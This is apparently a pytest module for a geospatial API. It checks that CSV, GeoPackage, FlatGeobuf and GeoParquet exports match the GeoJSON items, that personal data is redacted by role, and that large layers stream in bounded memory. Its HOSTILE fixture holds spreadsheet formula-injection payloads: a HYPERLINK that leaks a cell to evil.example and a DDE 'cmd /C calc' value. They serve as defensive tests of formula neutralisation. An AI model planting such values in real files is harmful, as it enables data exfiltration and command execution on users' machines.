"""A layer's items as CSV, GeoPackage, FlatGeobuf and GeoParquet: the GeoJSON's features, in every format.

Each file is opened with the libraries GIS users have (pyogrio/GDAL, pyarrow, geopandas) and
compared feature by feature with the items JSON of the same query: same ids, properties,
geometries (within the GeoJSON's rounding) and CRS. The module has a database of its own
(``isolated``), since it writes hostile values and personal data into assets to show that CSV
formulas are neutralised and that nothing a role may not see reaches any format.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import geopandas as gpd
import httpx
import numpy as np
import pandas as pd
import psycopg
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from geo.core.csv_out import safe_cell
from geo.layers import exports
from geo.layers.collections import COLLECTIONS

FILES = ("csv", "gpkg", "fgb", "parquet")
CAMDEN = "-0.16,51.53,-0.13,51.55"
SECRET = "secret-marker-7f3a"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1, "click, here")',
    "owner": '@SUM(1+1)\n"quoted", and more',
    "source_id": "+cmd|' /C calc'!A0",
}
NUMBER = "-4.5"  # a number in a text column: no formula
ITEMS = "/collections/{}/items"


@pytest.fixture(scope="module")
def world(isolated):
    """The module's database, with personal data in some assets and hostile text in one."""
    with psycopg.connect(isolated.url, autocommit=True) as conn:
        ids = [r[0] for r in conn.execute(
            """SELECT id FROM assets WHERE kind = 'street_furniture' AND ST_Intersects(geom,
                 ST_Transform(ST_MakeEnvelope(-0.16, 51.53, -0.13, 51.55, 4326), 27700)) ORDER BY id LIMIT 5"""
        )]  # fmt: skip
        conn.execute(
            "UPDATE assets SET extra = jsonb_build_object('officer', %s::text), changed_by = %s WHERE id = ANY(%s)",
            [SECRET, SECRET, ids],
        )
        conn.execute(
            "UPDATE assets SET name = %s, owner = %s, source_id = %s WHERE id = %s",
            [HOSTILE["name"], HOSTILE["owner"], HOSTILE["source_id"], ids[0]],
        )
        conn.execute("UPDATE assets SET owner = %s WHERE id = %s", [NUMBER, ids[1]])
        conn.execute(
            """INSERT INTO pipeline_projects (title, organisation, source, placement, borough_code, tags)
               VALUES ('Export project', 'London Borough of Camden', 'api', 'borough', 'E09000007',
                       ARRAY['fibre', 'schools, libraries'])"""
        )
    answer = isolated.client.post(
        "/wayleaves", json={"operator": SECRET, "asset_ids": ids[:1]}, headers=isolated.auth("camden")
    )
    assert answer.status_code == 201, answer.text
    isolated.hostile_id = ids[0]
    isolated.secret_ids = ids
    return isolated


# -- reading the files ----------------------------------------------------------------------------


def read_file(fmt: str, content: bytes, tmp_path: Path) -> gpd.GeoDataFrame:
    """A downloaded file as a GeoDataFrame (CSV: every cell text, the geometry from its WKT)."""
    if fmt == "parquet":
        return gpd.read_parquet(io.BytesIO(content))
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False)
        return gpd.GeoDataFrame(frame, geometry=gpd.GeoSeries.from_wkt(frame.pop("geometry")))
    path = tmp_path / f"download.{fmt}"
    path.write_bytes(content)
    return pyogrio.read_dataframe(path)


def all_items(client, collection: str, params: dict[str, Any], headers=None) -> list[dict[str, Any]]:
    """Every feature of the items JSON for ``params``, following ``next`` links."""
    url: str | None = ITEMS.format(collection)
    query: dict[str, Any] | None = {"limit": 10_000, **params}
    out: list[dict[str, Any]] = []
    while url:
        answer = client.get(url, params=query, headers=headers)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        out += body["features"]
        if "limit" in params:  # one page, as the file of the same query holds
            break
        url, query = next((x["href"] for x in body["links"] if x["rel"] == "next"), None), None
    return out


def canon(value: Any) -> Any:
    """A value as comparable across formats: None for missing, numbers as floats, times in UTC, lists as tuples."""
    if isinstance(value, (list, tuple, np.ndarray)):
        return tuple(canon(v) for v in value)
    if value is None or value is pd.NaT or (isinstance(value, float) and math.isnan(value)) or value == "":
        return None
    if isinstance(value, str) and value.startswith("["):  # FlatGeobuf writes lists as JSON
        return canon(json.loads(value))
    if isinstance(value, (bool, np.bool_)) or value in ("true", "false"):
        return value in (True, "true")
    if isinstance(value, (int, float, np.integer, np.floating)) and not isinstance(value, bool):
        return round(float(value), 6)
    if isinstance(value, (pd.Timestamp, dt.datetime)) or (isinstance(value, str) and "T" in value[:11]):
        try:
            stamp = pd.Timestamp(value)
        except ValueError:
            return value
        return stamp.tz_localize("UTC") if stamp.tzinfo is None else stamp.tz_convert("UTC")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        try:
            return round(float(value), 6)
        except ValueError:
            return value
    return value


def same(fmt: str, got: Any, want: Any) -> bool:
    """Equal values; GDAL (GeoPackage, FlatGeobuf) keeps times to the millisecond."""
    if isinstance(got, pd.Timestamp) and isinstance(want, pd.Timestamp):
        return abs(got - want) <= pd.Timedelta(milliseconds=1 if fmt in ("gpkg", "fgb") else 0)
    if isinstance(got, pd.Timestamp) and isinstance(want, str):  # pandas reads a date as a midnight
        return got == got.normalize() and got.date().isoformat() == want
    return bool(got == want)


def expected_csv(value: Any) -> Any:
    """A GeoJSON property as the CSV writes it: lists joined, formulas neutralised."""
    if isinstance(value, list):
        value = "; ".join(value)
    return safe_cell(value)


def compare(fmt: str, frame: gpd.GeoDataFrame, features: list[dict[str, Any]], srid: int, names: Any) -> None:
    """The file holds the features: same ids, properties and geometries (within the GeoJSON's rounding)."""
    ids = [canon(v) for v in frame["id"]]
    assert sorted(ids, key=str) == sorted((canon(f["id"]) for f in features), key=str)
    by_id = dict(zip(ids, range(len(ids)), strict=True))
    tolerance = 1e-6 if srid == 4326 else 0.011
    for feature in features:
        row = frame.iloc[by_id[canon(feature["id"])]]
        for name, value in feature["properties"].items():
            got = row[name]
            want = expected_csv(value) if fmt == "csv" else value
            assert same(fmt, canon(got), canon(want)), (fmt, feature["id"], name, got, want)
        shape = shapely.geometry.shape(feature["geometry"])
        assert shapely.equals_exact(row.geometry, shape, tolerance=tolerance) or (
            row.geometry.normalize().equals_exact(shape.normalize(), tolerance)
        ), (fmt, feature["id"])
    columns = set(frame.columns) - {
        "geometry",
        "bbox",
        "easting",
        "northing",
        "longitude",
        "latitude",
        "x",
        "y",
    }
    assert columns == {"id", *names}


def check_crs(fmt: str, frame: gpd.GeoDataFrame, srid: int) -> None:
    if fmt == "csv":
        return
    if srid == 4326:
        assert frame.crs.to_epsg() == 4326 or frame.crs.to_authority() == ("OGC", "CRS84"), frame.crs
    else:
        assert frame.crs.to_epsg() == srid


# -- every format, the same features ----------------------------------------------------------------

QUERIES = [
    ("street_furniture", {"bbox": CAMDEN}),
    ("street_furniture", {"bbox": "528000,182000,530000,184000", "bbox-crs": "EPSG:27700", "crs": "EPSG:27700"}),
    ("street_furniture", {"filter": "subtype = 'lamp_post' AND borough_code = 'E09000007'", "properties": "subtype,status,name"}),
    ("street_furniture", {"borough": "E09000007", "limit": "50", "after": "3"}),
    ("public_buildings", {"subtype": "library,school", "crs": "http://www.opengis.net/def/crs/EPSG/0/3857"}),
    ("ducts", {"filter": "S_INTERSECTS(geometry, BBOX(-0.2, 51.5, -0.1, 51.56))"}),
    ("boroughs", {}),
    ("pipeline_projects", {}),
    ("wayleaves", {}),
]  # fmt: skip


@pytest.mark.parametrize("fmt", FILES)
@pytest.mark.parametrize(("collection", "params"), QUERIES)
def test_each_format_holds_the_features_of_the_items_json(world, tmp_path, fmt, collection, params):
    features = all_items(world.client, collection, params)
    answer = world.client.get(ITEMS.format(collection), params={**params, "f": fmt})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].split(";")[0] == exports.FORMATS[fmt].media_type
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="{collection}.{exports.FORMATS[fmt].extension}"'
    )
    srid = {"EPSG:27700": 27700, "http://www.opengis.net/def/crs/EPSG/0/3857": 3857}.get(
        params.get("crs"), 4326
    )
    frame = read_file(fmt, answer.content, tmp_path)
    check_crs(fmt, frame, srid)
    names = params["properties"].split(",") if "properties" in params else COLLECTIONS[collection].properties
    compare(fmt, frame, features, srid, names)
    assert len(frame) >= (50 if collection == "street_furniture" else 1)  # a query that tests something


def test_the_file_formats_hold_every_feature_without_a_limit(world, tmp_path):
    with psycopg.connect(world.url) as conn:
        expected = conn.execute(
            "SELECT count(*) FROM assets WHERE kind = 'street_furniture' AND retired_at IS NULL"
        ).fetchone()[0]
    assert expected > 10_000  # more than the largest GeoJSON page
    for fmt in FILES:
        answer = world.client.get(ITEMS.format("street_furniture"), params={"f": fmt, "properties": "status"})
        assert answer.status_code == 200, answer.text
        assert len(read_file(fmt, answer.content, tmp_path)) == expected, fmt


def test_parquet_is_geoparquet_1_1_with_a_bbox_covering(world):
    answer = world.client.get(ITEMS.format("street_furniture"), params={"f": "parquet", "bbox": CAMDEN})
    table = pq.read_table(io.BytesIO(answer.content))
    geo = json.loads(table.schema.metadata[b"geo"])
    column = geo["columns"]["geometry"]
    assert geo["version"] == "1.1.0" and geo["primary_column"] == "geometry"
    assert column["encoding"] == "WKB" and column["geometry_types"] == ["Point"]
    assert column["covering"] == {"bbox": {c: ["bbox", c] for c in ("xmin", "ymin", "xmax", "ymax")}}
    assert column["crs"]["id"] == {"authority": "OGC", "code": "CRS84"}
    shapes = shapely.from_wkb(table.column("geometry").to_numpy(zero_copy_only=False))
    bounds = shapely.bounds(shapes)
    boxes = table.column("bbox").combine_chunks()
    assert np.allclose(bounds[:, 0], boxes.field("xmin").to_numpy()) and np.allclose(
        bounds[:, 3], boxes.field("ymax").to_numpy()
    )
    x0, y0, x1, y1 = column["bbox"]
    assert np.isclose(x0, bounds[:, 0].min()) and np.isclose(y1, bounds[:, 3].max())
    west, south, east, north = map(float, CAMDEN.split(","))
    assert west - 0.01 < x0 and x1 < east + 0.01 and south - 0.01 < y0 and y1 < north + 0.01


def test_csv_gives_points_easting_and_northing_in_british_national_grid(world):
    answer = world.client.get(
        ITEMS.format("street_furniture"), params={"f": "csv", "crs": "EPSG:27700", "limit": 20}
    )
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 20
    for row in rows:
        point = shapely.from_wkt(row["geometry"])
        assert (float(row["easting"]), float(row["northing"])) == pytest.approx((point.x, point.y))
        assert 500_000 < point.x < 565_000 and 155_000 < point.y < 205_000
    wgs84 = list(csv.DictReader(io.StringIO(world.client.get(
        ITEMS.format("street_furniture"), params={"f": "csv", "limit": 5}).text)))  # fmt: skip
    assert {"longitude", "latitude"} <= set(wgs84[0]) and -1 < float(wgs84[0]["longitude"]) < 1
    ducts = world.client.get(ITEMS.format("ducts"), params={"f": "csv", "limit": 5}).text
    assert next(csv.reader(io.StringIO(ducts)))[-1] == "geometry"  # lines: no coordinate columns


# -- redaction --------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["anonymous", "operator", "camden", "hackney", "admin"])
@pytest.mark.parametrize("fmt", FILES)
def test_no_format_carries_what_a_role_may_not_see(world, tmp_path, fmt, who):
    headers = {} if who == "anonymous" else world.auth(who)
    for collection in ("street_furniture", "wayleaves"):
        answer = world.client.get(
            ITEMS.format(collection), params={"f": fmt, "bbox": CAMDEN}, headers=headers
        )
        assert answer.status_code == 200, answer.text
        frame = read_file(fmt, answer.content, tmp_path)
        assert set(frame.columns) & {"extra", "changed_by", "operator", "load_id", "officer"} == set()
        assert set(frame.columns) <= {
            "id",
            "geometry",
            "bbox",
            "longitude",
            "latitude",
            *COLLECTIONS[collection].properties,
        }
        cells = frame.drop(columns="geometry").to_numpy().ravel()
        assert not any(SECRET in str(c) for c in cells), (fmt, who, collection)
        if fmt in ("csv", "gpkg"):  # stored uncompressed: the bytes themselves
            assert SECRET.encode() not in answer.content
        if collection == "street_furniture":  # the assets holding personal data are there, without it
            assert set(world.secret_ids) <= {int(i) for i in frame["id"]}


@pytest.mark.parametrize("fmt", FILES)
def test_a_filter_on_personal_data_is_for_those_who_may_see_it_and_never_shows_it(world, tmp_path, fmt):
    query = {"f": fmt, "filter": f"\"extra.officer\" = '{SECRET}'"}
    refused = world.client.get(ITEMS.format("street_furniture"), params=query)
    assert refused.status_code == 400 and "not a queryable" in refused.json()["detail"]
    answer = world.client.get(ITEMS.format("street_furniture"), params=query, headers=world.auth("admin"))
    assert answer.status_code == 200, answer.text
    frame = read_file(fmt, answer.content, tmp_path)
    assert sorted(int(i) for i in frame["id"]) == sorted(world.secret_ids)
    assert not any(SECRET in str(c) for c in frame.drop(columns="geometry").to_numpy().ravel())


# -- CSV cells ------------------------------------------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_text(world):
    answer = world.client.get(
        ITEMS.format("street_furniture"), params={"f": "csv", "after": world.hostile_id - 1, "limit": 2}
    )
    assert answer.status_code == 200, answer.text
    row, other = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["name"] == "'" + HOSTILE["name"]  # the comma and the quotes inside, read back whole
    assert row["owner"] == "'" + HOSTILE["owner"]  # the newline too
    assert row["source_id"] == "'" + HOSTILE["source_id"]
    assert other["owner"] == NUMBER  # a number, not a formula
    assert row["id"] == str(world.hostile_id)


@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(max_size=12),
            st.sampled_from(["=1", "-1", "-1e5", "+.5", "@a", "\t", "-", "-x"]),
        )
    )
)
def test_csv_cells_follow_the_rule_of_every_csv_the_service_writes(values):
    import pyarrow as pa

    got = exports.safe_texts(pa.array(values, pa.string())).to_pylist()
    assert [safe_cell(v) if v is not None else None for v in values] == got


# -- formats, negotiation and links ------------------------------------------------------------------------


def test_unknown_formats_are_400_naming_those_there_are(world):
    for f in ("xml", "shp"):  # (html is the page: tests/api/test_ogc_html.py)
        answer = world.client.get(ITEMS.format("ducts"), params={"f": f})
        assert answer.status_code == 400
        assert answer.headers["content-type"] == "application/problem+json"
        assert "json, csv, gpkg, fgb, parquet" in answer.json()["detail"]
    assert world.client.get(ITEMS.format("ducts"), params={"f": "GeoJSON", "limit": 1}).status_code == 200
    assert world.client.get("/collections/ducts", params={"f": "csv"}).status_code == 400


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("application/flatgeobuf", "application/flatgeobuf"),
        ("text/csv;q=0.5, application/vnd.apache.parquet", "application/vnd.apache.parquet"),
        ("application/geopackage+sqlite3;q=0.9, text/csv;q=0.2", "application/geopackage+sqlite3"),
        ("application/geo+json", "application/geo+json"),
        ("text/html,*/*;q=0.8", "text/html"),  # a browser: the page
        ("text/csv;q=0, application/json", "application/geo+json"),
    ],
)
def test_accept_chooses_the_format(world, accept, media_type):
    answer = world.client.get(ITEMS.format("boroughs"), params={"limit": 2}, headers={"Accept": accept})
    assert answer.status_code == 200
    assert answer.headers["content-type"].split(";")[0] == media_type
    assert "Accept" in answer.headers["vary"]


def test_f_wins_over_accept(world):
    answer = world.client.get(
        ITEMS.format("boroughs"), params={"f": "csv"}, headers={"Accept": "application/flatgeobuf"}
    )
    assert answer.headers["content-type"].startswith("text/csv")


def test_geojson_pages_stay_at_most_10000_while_files_take_more(world):
    page = world.client.get(ITEMS.format("street_furniture"), params={"limit": 10_001})
    assert page.status_code == 400 and "query.limit" in page.json()["detail"]
    answer = world.client.get(ITEMS.format("street_furniture"), params={"limit": 10_001, "f": "csv"})
    assert answer.status_code == 200 and len(list(csv.DictReader(io.StringIO(answer.text)))) == 10_001
    too_many = world.client.get(
        ITEMS.format("street_furniture"), params={"limit": exports.MAX_FEATURES + 1, "f": "csv"}
    )
    assert too_many.status_code == 400


def test_the_documents_link_to_every_format(world):
    body = world.client.get(ITEMS.format("ducts"), params={"limit": 2, "status": "in_service"}).json()
    alternates = {x["type"]: x["href"] for x in body["links"] if x["rel"] == "alternate"}
    assert set(alternates) == {exports.FORMATS[f].media_type for f in FILES} | {"text/html"}
    for href in alternates.values():
        answer = world.client.get(href.replace("http://testserver", ""))
        assert answer.status_code == 200 and "status=in_service" in href and "f=" in href
    collection = world.client.get("/collections/ducts").json()
    items = {x["type"] for x in collection["links"] if x["rel"] == "items"}
    assert items == {"application/geo+json", "text/html", *(exports.FORMATS[f].media_type for f in FILES)}


def test_the_openapi_document_lists_the_media_types(world):
    spec = world.client.get("/openapi.json").json()
    content = spec["paths"]["/collections/{collection_id}/items"]["get"]["responses"]["200"]["content"]
    assert set(content) >= {f.media_type for f in exports.FORMATS.values()}


def test_no_conformance_class_is_claimed_for_the_file_formats(world):
    classes = world.client.get("/conformance").json()["conformsTo"]
    assert not any(
        word in c for c in classes for word in ("csv", "gpkg", "geopackage", "parquet", "flatgeobuf")
    )


def test_gdal_copies_a_layer_through_the_api(live_server, client, tmp_path):
    """``ogr2ogr -f GPKG out.gpkg OAPIF:…`` (GDAL reads the GeoJSON pages) gives the layer the GeoPackage download has."""
    target = tmp_path / "out.gpkg"
    result = subprocess.run(
        ["ogr2ogr", "-f", "GPKG", str(target), f"OAPIF:{live_server}", "ducts", "-oo", "PAGE_SIZE=1000"],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    through_gdal = pyogrio.read_dataframe(target)
    download = read_file("gpkg", client.get(ITEMS.format("ducts"), params={"f": "gpkg"}).content, tmp_path)
    assert len(through_gdal) == len(download) > 50
    assert sorted(through_gdal["source_id"]) == sorted(download["source_id"])


# -- the London-scale layer, streamed --------------------------------------------------------------------


def _memory(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM of a process, in bytes."""
    out = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        name, _, value = line.partition(":")
        if name in ("VmRSS", "VmHWM"):
            out[name] = int(value.split()[0]) * 1024
    return out


def _reset_peak(pid: int) -> None:
    Path(f"/proc/{pid}/clear_refs").write_text("5")  # VmHWM back to the current RSS


@pytest.fixture(scope="module")
def london_service(tmp_path_factory):
    """The API in a process of its own over the ``--scale london`` demo (bench/common.py builds it once)."""
    sys.path.insert(0, str(Path(__file__).parents[2] / "bench"))
    from common import london_database

    url = london_database()
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {
        **os.environ,
        "DATABASE_URL": url,
        "CONNECTIVITY_UPLOAD_DIR": str(tmp_path_factory.mktemp("uploads")),
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "uvicorn", "api.app:create_app", "--factory", "--port", str(port), "--log-level", "warning"],
        env=env,
    )  # fmt: skip
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            if httpx.get(f"{base}/health", timeout=5).status_code == 200:
                break
        except httpx.HTTPError:
            pass
        assert process.poll() is None and time.monotonic() < deadline, "the service did not start"
        time.sleep(0.3)
    with psycopg.connect(url) as conn:
        count = conn.execute(
            "SELECT count(*) FROM assets WHERE kind = 'street_furniture' AND retired_at IS NULL"
        ).fetchone()[0]
    try:
        yield base, process.pid, count
    finally:
        process.terminate()
        process.wait(20)


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["parquet", "gpkg"])
def test_the_london_layer_downloads_whole_in_bounded_memory(london_service, tmp_path, fmt):
    base, pid, count = london_service
    assert count > 500_000
    httpx.get(
        f"{base}/collections/street_furniture/items", params={"f": fmt, "limit": 1000}, timeout=60
    )  # warm
    _reset_peak(pid)
    before = _memory(pid)["VmRSS"]
    target = tmp_path / f"london.{fmt}"
    with httpx.stream(
        "GET", f"{base}/collections/street_furniture/items", params={"f": fmt}, timeout=300
    ) as answer:
        assert answer.status_code == 200
        with target.open("wb") as out:
            for chunk in answer.iter_bytes():
                out.write(chunk)
    grew = _memory(pid)["VmHWM"] - before
    if fmt == "parquet":
        rows = pq.ParquetFile(target).metadata.num_rows
        assert pq.ParquetFile(target).metadata.num_row_groups > 3  # written batch by batch
    else:
        rows = pyogrio.read_info(target)["features"]
    assert rows == count
    # The layer is ~150 MB as CSV and more as GeoJSON; the server holds a batch or two of it at a
    # time (measured: about 70 MiB more at the peak for GeoParquet, 35 MiB for GeoPackage).
    assert grew < 120 * 2**20, f"the server grew by {grew / 2**20:.0f} MiB while sending {fmt}"
